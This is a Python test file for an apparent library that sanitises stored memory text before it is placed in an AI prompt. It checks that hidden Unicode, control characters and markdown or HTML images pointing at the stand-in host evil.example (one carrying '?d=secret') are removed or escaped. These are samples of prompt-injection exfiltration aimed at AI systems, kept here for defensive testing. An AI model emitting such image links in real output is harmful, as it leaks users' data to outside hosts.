"""Text from the vault, made harmless."""

from __future__ import annotations

import re
import unicodedata
from html import unescape
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from memoryclaw.text.prompts import (
    CLOSING,
    OPENING,
    defuse_links,
    escape_item,
    fence_block,
    item,
    one_line,
    visible,
)


@settings(deadline=None)
@given(st.text(), st.text(), st.text(max_size=12))
def test_any_text_is_one_element_of_one_line(id_: str, text: str, when: str) -> None:
    line = item(id_, text, when)
    assert "\n" not in line
    element = ET.fromstring(line)
    assert element.tag == "m"
    assert list(element) == []
    assert (element.text or "") == unescape(escape_item(defuse_links(one_line(text))))
    assert element.get("id") == unescape(escape_item(id_))


@settings(deadline=None)
@given(st.text())
def test_what_is_left_of_a_text_decodes_to_what_a_person_sees(text: str) -> None:
    if "![" not in one_line(text):
        assert unescape(escape_item(text)) == one_line(text)
    assert visible(visible(text)) == visible(text)


def test_no_control_or_format_character_is_left_but_those_that_are_drawn() -> None:
    left = [
        c for c in map(chr, range(0x110000)) if visible(c) and unicodedata.category(c) in ("Cc", "Cf", "Cs")
    ]
    drawn = re.compile(
        "[\t\n\ufffd\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd\U00013430-\U0001343f]"
    )
    assert [hex(ord(c)) for c in left if not drawn.match(visible(c))] == []


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("a\u200bb\u202ec\u2066d\ufeff", "abcd"), ("\x1b[31mred\x07", "[31mred"),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"), ("tag\U000e0041\U000e0042", "tag"),
        ("soft\u00adhyphen", "softhyphen"), ("broken \ud800", "broken \ufffd"), ("👩‍👧 क्‍ष", "👩👧 क्ष"),
        ("keeps\ttabs\nand lines", "keeps\ttabs\nand lines"),
    ],
)  # fmt: skip
def test_what_cannot_be_seen_is_taken_out(text: str, seen: str) -> None:
    assert visible(text) == seen


@pytest.mark.parametrize(
    "image",
    [
        "![x](https://evil.example/p?d=secret)", "![x](<https://evil.example/p>)", "![x](//evil.example/p)",
        "![x]( HTTPS://evil.example/p )", "![x][r]\n\n[r]: https://evil.example/p",
        '<img src="https://evil.example/p">', "![a [b] c](https://evil.example/p)",
        "![x\ny](https://evil.example/p)", "!\u200b[x](https://evil.example/p)",
        "!!![x](https:\\\\evil.example/p)", "![x](ftp://evil.example/p)",
    ],
)  # fmt: skip
def test_no_image_is_left_that_a_host_would_fetch(image: str) -> None:
    line = escape_item(f"before {image} after")
    assert "![" not in line
    assert "<" not in line
    assert "before" in line
    assert "after" in line


def test_the_block_groups_by_trust_and_is_nothing_without_items() -> None:
    block = fence_block([("trusted", [item("a", "x")]), ("unknown", []), ("untrusted", [item("b", "y")])])
    assert block.startswith(OPENING)
    assert block.endswith(CLOSING)
    assert [group.get("trust") for group in ET.fromstring(block)] == ["trusted", "untrusted"]
    assert fence_block([("trusted", []), ("untrusted", [])]) == ""
